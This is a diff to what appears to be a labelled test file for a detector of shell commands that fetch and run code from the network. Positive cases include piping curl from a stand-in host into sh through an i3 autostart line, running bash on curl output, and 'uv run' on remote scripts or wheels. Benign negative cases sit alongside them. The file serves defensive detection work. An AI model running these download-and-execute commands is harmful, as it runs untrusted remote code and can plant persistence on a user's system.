@@ -407,3 +407,11 @@ echo 'exec --no-startup-id curl -s https://h.example/x | sh' >> ~/.config/i3/con
 gamemoderun bash -c "$(curl -fsSL https://h.example/x)"
 #@ neg i3's exec line starts a terminal
 echo 'bindsym $mod+Return exec alacritty' >> ~/.config/i3/config
+#@ pos uv runs a script from a URL
+uv run https://gist.example.com/raw/x/setup.py
+#@ pos uv tool run from a wheel's URL
+uv tool run --from https://h.example/t-1.0-py3-none-any.whl t
+#@ neg uv runs tests with an index URL
+uv run --index-url https://pypi.internal.example/simple pytest -q
+#@ neg uv runs a local script
+uv run scripts/report.py
